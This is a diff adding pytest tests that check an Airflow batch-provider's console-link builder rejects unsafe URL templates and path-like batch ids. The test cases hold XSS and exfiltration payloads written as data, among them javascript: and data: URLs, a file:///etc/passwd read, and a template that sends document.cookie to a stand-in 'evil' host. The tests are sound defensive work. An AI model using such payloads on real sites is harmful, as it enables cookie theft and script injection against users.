@@ -53,7 +53,7 @@ def test_a_connection_template_overrides_and_none_turns_links_off() -> None:
     custom = settings(
         "https://api.doubleword.ai/v1", "doubleword", console_url_template="{origin}/b/{batch_id}"
     )
-    assert batch_page_urls(custom, ["x/y"], probe=False) == ["https://api.doubleword.ai/b/x%2Fy"]
+    assert batch_page_urls(custom, ["x:y"], probe=False) == ["https://api.doubleword.ai/b/x%3Ay"]
     off = settings("https://api.openai.com/v1", console_url_template="none")
     assert batch_page_urls(off, IDS, probe=False) == []
     assert (
@@ -72,6 +72,73 @@ def test_the_local_server_is_recognised_by_its_health_answer(batch_server: Any) 
     # Anything else answering (or nothing at all) is not the local server.
     assert not is_local_server(f"{server.root_url}/v1")
     assert not is_local_server("http://127.0.0.1:9", timeout=0.5)
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "javascript:alert(document.cookie)//{batch_id}",
+        "JavaScript:alert(1)//{batch_id}",
+        "java\tscript:alert(1)//{batch_id}",
+        " javascript:alert(1)//{batch_id}",
+        "data:text/html,<script>alert(1)</script>{batch_id}",
+        "file:///etc/passwd#{batch_id}",
+        "vbscript:msgbox({batch_id})",
+        "ftp://files.example/{batch_id}",
+        "http://evil.example/{batch_id}",
+        "https://user:pw@evil.example/{batch_id}",
+        "//evil.example/{batch_id}",
+        "/ui/batches/{batch_id}",
+        "https:///{batch_id}",
+    ],
+)
+def test_a_template_that_is_not_a_web_page_gives_no_link(template: str, caplog: Any) -> None:
+    conn = settings("https://llm-proxy.internal/v1", console_url_template=template)
+    with caplog.at_level("WARNING", logger="airflow_batch_provider.links"):
+        assert batch_page_urls(conn, IDS, probe=False) == []
+    assert "No batch page links for connection 'c'" in caplog.text
+    assert "sk-secret" not in caplog.text
+    assert "alert" not in caplog.text and "passwd" not in caplog.text
+
+
+def test_a_dialect_console_template_is_held_to_the_same_rule(caplog: Any) -> None:
+    class Sneaky(type(get_dialect("openai"))):  # type: ignore[misc]
+        console_url_template = "javascript:fetch('//evil/'+document.cookie)//{batch_id}"
+
+    conn = BatchApiSettings(conn_id="c", base_url="https://api.openai.com/v1", dialect=Sneaky())
+    assert batch_page_urls(conn, IDS, probe=False) == []
+    assert "'javascript' URL" in caplog.text
+
+
+@pytest.mark.parametrize(
+    ("base_url", "template", "expected"),
+    [
+        (
+            "https://gw.example/v1",
+            "https://console.example/b/{batch_id}",
+            "https://console.example/b/batch_a",
+        ),
+        ("https://gw.example/v1", "http://127.0.0.1:9/ui/{batch_id}", "http://127.0.0.1:9/ui/batch_a"),
+        ("https://gw.example/v1", "http://localhost:3000/{batch_id}", "http://localhost:3000/batch_a"),
+        ("https://gw.example/v1", "http://[::1]:8/{batch_id}", "http://[::1]:8/batch_a"),
+        # The local server in a compose network: plain http, but the API's own host.
+        (
+            "http://batch-server:8000/v1",
+            "{origin}/ui/batches/{batch_id}",
+            "http://batch-server:8000/ui/batches/batch_a",
+        ),
+    ],
+)
+def test_web_pages_are_linked(base_url: str, template: str, expected: str) -> None:
+    assert batch_page_urls(settings(base_url, console_url_template=template), IDS[:1], probe=False) == [
+        expected
+    ]
+
+
+def test_a_batch_id_fills_one_segment_and_a_path_id_gets_no_link() -> None:
+    conn = settings("https://gw.example/v1", console_url_template="https://console.example/b/{batch_id}/view")
+    got = batch_page_urls(conn, ["../../admin", "x/y", "b:1 ", "b:1", "b%2F"], probe=False)
+    assert got == ["", "", "", "https://console.example/b/b%3A1/view", ""]
 
 
 class FakeTaskInstanceKey:
